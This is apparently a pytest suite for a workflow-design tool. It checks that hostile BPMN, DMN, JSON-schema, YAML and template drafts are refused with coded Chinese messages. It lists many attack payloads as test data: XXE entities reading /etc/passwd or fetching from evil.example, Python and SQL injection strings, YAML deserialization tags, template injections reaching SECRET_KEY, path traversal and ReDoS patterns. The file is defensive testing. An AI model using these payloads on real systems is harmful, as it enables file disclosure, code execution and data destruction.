"""
A designer with bad intent: whatever is written into a draft is refused by a coded Chinese sentence, or is inert text.

The list of attacks is the one told in docs/subsystems/designers.md.
"""

import json
import re
import socket
import subprocess
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, settings

from yihu.hub.centres.matters.catalogue.files import MOST_BYTES, check_files, read_folder
from yihu.hub.centres.matters.selectors.designing.conditions import judge_condition
from yihu.hub.centres.matters.selectors.designing.drafts import examine_files
from yihu.hub.centres.matters.services.designing.refusals import UnableToDesignError
from yihu.hub.centres.matters.services.designing.writing import check_text
from yihu.kit.feel import ExpressionError, parse_expression

pytestmark = pytest.mark.django_db
LEAVE = Path(__file__).parents[6] / "matters" / "office" / "leave"
MANY = settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
CODED = re.compile(r"(MTR|MAT|BPM|FEEL|EXP)-?[A-Z]?\d+")
CHINESE = re.compile(r"[一-鿿]")


@pytest.fixture(autouse=True)
def nothing_leaves(monkeypatch: pytest.MonkeyPatch) -> None:
    """No definition may open a connection or a process, whatever it says."""

    def caught(*args: Any, **kwargs: Any) -> None:
        raise AssertionError(f"a definition reached outside: {args}")

    monkeypatch.setattr(subprocess, "Popen", caught)
    monkeypatch.setattr(socket, "create_connection", caught)
    monkeypatch.setattr("os.system", caught)


@pytest.fixture(scope="module")
def files() -> dict[str, str]:
    return read_folder(LEAVE)


def verdict(files: dict[str, str], name: str, text: str) -> list[tuple[str, str]]:
    """(code, sentence) of whatever stops the text from becoming a version; empty when nothing does."""
    try:
        check_text(name, text)
    except UnableToDesignError as error:
        return [(error.code, str(error)), *((p.code, p.message) for p in error.problems)]
    return [(p.code, f"{p.message}{p.advice}") for p in examine_files({**files, name: text}) if p.blocks]


def assert_refused(found: list[tuple[str, str]]) -> None:
    assert found, "accepted"
    for code, sentence in found:
        assert CODED.match(code), code
        assert CHINESE.search(sentence), sentence


def in_process(files: dict[str, str], put: str, before: str = "<bpmn:startEvent") -> str:
    text = files["process.bpmn"]
    assert before in text
    return text.replace(before, f"{put}{before}", 1)


PROCESS_ATTACKS: dict[str, Callable[[dict[str, str]], str]] = {
    "external entity": lambda f: f["process.bpmn"].replace(
        "?>", '?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1
    ),
    "parameter entity": lambda f: f["process.bpmn"].replace(
        "?>", '?><!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd">%e;]>', 1
    ),
    "billion laughs": lambda f: f["process.bpmn"].replace(
        "?>", '?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>', 1
    ),
    "script task": lambda f: in_process(
        f, '<bpmn:scriptTask id="S" scriptFormat="python"><bpmn:script>import os</bpmn:script></bpmn:scriptTask>'
    ),
    "send task": lambda f: in_process(f, '<bpmn:sendTask id="S" />'),
    "receive task": lambda f: in_process(f, '<bpmn:receiveTask id="S" />'),
    "plain task": lambda f: in_process(f, '<bpmn:task id="S" />'),
    "data object": lambda f: in_process(f, '<bpmn:dataObject id="S" />'),
    "loop with expression": lambda f: in_process(
        f, "<bpmn:standardLoopCharacteristics><bpmn:loopCondition>true</bpmn:loopCondition>"
        "</bpmn:standardLoopCharacteristics>",
    ),
    "listener of another engine": lambda f: in_process(
        f, '<bpmn:extensionElements><c:executionListener xmlns:c="http://camunda.org/schema/1.0/bpmn" '
        'class="os.system" event="start" /></bpmn:extensionElements>',
    ),
    "class of another engine": lambda f: f["process.bpmn"].replace(
        'id="Register"', 'xmlns:c="http://camunda.org/schema/1.0/bpmn" c:class="java.lang.Runtime" id="Register"', 1
    ),
    "foreign namespace": lambda f: in_process(f,
    '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd" />'),
    "foreign drawing": lambda f: in_process(f, '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    "unregistered handler": lambda f: f["process.bpmn"].replace("org.take_leave", "os.system", 1),
    "dotted handler": lambda f: f["process.bpmn"].replace("org.take_leave", "yihu.hub.config.settings", 1),
    "handler of Python": lambda f: f["process.bpmn"].replace("org.take_leave", "__import__('os').system('id')", 1),
    "decision outside": lambda f: in_process(f, '<bpmn:businessRuleTask id="R" yihu:decision="../../etc/passwd" />'),
    "condition of Python": lambda f: f["process.bpmn"].replace("form.days &gt; 3", "__import__('os').system('id')", 1),
    "condition of SQL": lambda f: f["process.bpmn"].replace("form.days &gt; 3", "1; DROP TABLE org_user --", 1),
    "condition too deep": lambda f: f["process.bpmn"].replace("form.days &gt; 3", "(" * 900 + "1" + ")" * 900, 1),
    "condition too long": lambda f: f["process.bpmn"].replace("form.days &gt; 3", "1 + " * 5000 + "1", 1),
    "two processes": lambda f: f["process.bpmn"].replace(
        "</bpmn:definitions>", '<bpmn:process id="P2" /></bpmn:definitions>', 1
    ),
    "identity with markup": lambda f: f["process.bpmn"].replace('id="Register"', 'id="a&quot; onload=&quot;x"', 1),
    "identity twice": lambda f: f["process.bpmn"].replace('id="Register"', 'id="HeadApproval"', 1),
    "too deep": lambda f: in_process(f, '<bpmn:subProcess>' * 60 + '</bpmn:subProcess>' * 60),
    "too large": lambda f: f["process.bpmn"].replace("?>", f"?><!--{'x' * MOST_BYTES}-->", 1),
    "nul": lambda f: f["process.bpmn"] + "\0",
    "surrogate": lambda f: f["process.bpmn"] + "\ud800",
    "not XML": lambda f: "<bpmn",
    "empty": lambda f: "",
}  # fmt: skip


@pytest.mark.parametrize("attack", PROCESS_ATTACKS)
def test_processes(files: dict[str, str], attack: str) -> None:
    assert_refused(verdict(files, "process.bpmn", PROCESS_ATTACKS[attack](files)))


FIELD = {"type": "string", "title": "甲", "maxLength": 20}
FORM_ATTACKS: dict[str, dict[str, Any]] = {
    "http reference": {"$ref": "http://evil.example/x.json"},
    "file reference": {"$ref": "file:///etc/passwd"},
    "sibling reference": {"$ref": "../../../settings.json#/a"},
    "dynamic reference": {**FIELD, "$dynamicRef": "#meta"},
    "identity": {**FIELD, "$id": "http://evil.example/"},
    "vocabulary": {**FIELD, "$vocabulary": {"http://evil.example": True}},
    "backtracking pattern": {**FIELD, "pattern": "^(a+)+$"},
    "look-around": {**FIELD, "pattern": "^(?=.*a).*$"},
    "pattern properties": {"type": "object", "title": "甲", "patternProperties": {"^(a+)+$": FIELD}, "properties": {}},
    "media": {**FIELD, "contentMediaType": "text/html"},
    "unknown keyword": {**FIELD, "x-python": "import os"},
    "own keyword of another type": {**FIELD, "x-prefill": ["os.system"]},
    "prefill of Python": {**FIELD, "x-prefill": "os.system"},
    "computed with Python": {"type": "number", "title": "甲", "x-compute": "__import__('os').system('id')"},
    "computed too deep": {"type": "number", "title": "甲", "x-compute": "(" * 900 + "1" + ")" * 900},
    "code table with path": {"type": "string", "title": "甲", "x-codes": "../../etc/passwd"},
    "rows without end": {"type": "array", "title": "甲", "maxItems": 10**9, "items": {"type": "object",
    "properties": {}}},
    "text without end": {"type": "string", "title": "甲", "maxLength": 10**9},
    "label that is none": {**FIELD, "x-label": "ADMIN"},
}  # fmt: skip


@pytest.mark.parametrize("attack", FORM_ATTACKS)
def test_forms(files: dict[str, str], attack: str) -> None:
    form = json.loads(files["form.json"])
    form["properties"]["extra"] = FORM_ATTACKS[attack]
    assert_refused(verdict(files, "form.json", json.dumps(form)))


@pytest.mark.parametrize("name", ["__class__x y", "a.b", "字段", "a" * 60, "<script>", "constructor()", "x-y"])
def test_names_of_fields(files: dict[str, str], name: str) -> None:
    form = json.loads(files["form.json"])
    form["properties"][name] = FIELD
    assert_refused(verdict(files, "form.json", json.dumps(form)))


@pytest.mark.parametrize("text", ["[" * 50_000, '{"type": NaN}', '{"a": 1, "a": 2}', "null", '"x"', "{", ""])
def test_json_that_is_no_form(files: dict[str, str], text: str) -> None:
    assert_refused(verdict(files, "form.json", text))


LETTER_ATTACKS = [
    "{% include '/etc/passwd' %}", "{% load static %}", "{{ settings.SECRET_KEY }}", "{{ form.reason|safe }}",
    "{{ form.reason.__class__.__mro__ }}", "{{ form.reason() }}", "{{ 7*7 }}", "{{ form['reason'] }}",
    "{{ request.user }}",
    "{{ form.reason | eval }}", "{{ self }}", "{{", "}}", "{{ {{ form.reason }} }}", "{{ applicant.password }}",
]  # fmt: skip


@pytest.mark.parametrize("text", LETTER_ATTACKS)
@pytest.mark.parametrize("place", ["letters/permit.txt", "matter.yaml"])
def test_letters_titles_and_notices(files: dict[str, str], text: str, place: str) -> None:
    if place == "matter.yaml":
        written = json.dumps(text, ensure_ascii=False)
        text = re.sub(r"^title: .*$", lambda _: f"title: {written}", files[place], count=1, flags=re.M)
    assert_refused(verdict(files, place, text))


YAML_ATTACKS = [
    "!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!!binary aGVsbG8=", "a: &x [1]\nb: *x",
    "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]", "<<: {a: 1}", "a: 1\na: 2", "a: " + "[" * 100 + "]" * 100, "- a", "\t- [",
    "name: !<tag:yaml.org,2002:python/object:os.system> x", "a: *nowhere",
]  # fmt: skip


@pytest.mark.parametrize("text", YAML_ATTACKS)
@pytest.mark.parametrize("name", ["matter.yaml", "cases/short.yaml"])
def test_yaml(files: dict[str, str], text: str, name: str) -> None:
    assert_refused(verdict(files, name, text))


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("by: 所长", "by: root"), ("node: HeadApproval", "node: ../x"), ("verb: agree", "verb: exec"),
        ("duty: OFFICER", "duty: SUPERUSER"), ("office: east", "office: /etc"), ("outcome: Granted", "outcome: Paid"),
        ("at: 2026-03-02T09:00:00", "at: [1]"), ("kind: ANNUAL",
        "kind: {a: {b: {c: {d: {e: {f: {g: {h: {i: {j: 1}}}}}}}}}}"),
    ],
)  # fmt: skip
def test_cases(files: dict[str, str], before: str, after: str) -> None:
    text = files["cases/short.yaml"]
    assert before in text
    assert_refused(verdict(files, "cases/short.yaml", text.replace(before, after)))


TABLE = (
    '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="n">'
    '<decision id="a" name="a">{}</decision></definitions>'
)


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + TABLE.format("&e;"),
        TABLE.format('<literalExpression expressionLanguage="python"><text>import os</text></literalExpression>'),
        TABLE.format('<context><contextEntry><variable name="x" /></contextEntry></context>'),
        TABLE.format(
            '<decisionTable id="t"><input id="i"><inputExpression id="e"><text>__import__("os").system("id")</text>'
            '</inputExpression></input><output id="o" name="r" /></decisionTable>'
        ),
        TABLE.format('<x:script xmlns:x="http://evil.example/">1</x:script>'),
        "<definitions", "", "null",
    ],
)  # fmt: skip
def test_decision_tables(files: dict[str, str], text: str) -> None:
    assert_refused(verdict(files, "routing.dmn", text))


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd", "/etc/passwd", "letters/../../x.txt", "letters/x.html", "x.py", "templates/x.html",
        "a\nb.dmn",
        "cases/a/b.yaml", "LETTERS/x.txt", "letters/x.txt\0", ".env", "letters/.txt", "form.json/..",
        "x" * 300 + ".dmn",
        "letters\\x.txt", "",
    ],
)  # fmt: skip
def test_names_of_files(files: dict[str, str], name: str) -> None:
    assert_refused(verdict(files, name, "x"))
    assert check_files({**files, name: "x"})


def test_conditions_that_would_take_for_ever_are_answered_at_once() -> None:
    bombs = ["(" * 5000, "1+" * 4000 + "1", "not(" * 900 + "true" + ")" * 900, "[" * 900 + "]" * 900, "9" * 4000,
             "for x in 1..99999999 return x", "10 ** 10 ** 10", '"' + "a" * 4000 + '"',
             "form." * 900 + "x"]  # fmt: skip
    for bomb in bombs:
        began = time.perf_counter()
        sound, message = judge_condition(bomb[:600], "{}")
        assert CHINESE.search(message)
        if sound:
            with suppress(ExpressionError):
                parse_expression(bomb[:600]).evaluate({})
        assert time.perf_counter() - began < 2, bomb[:20]
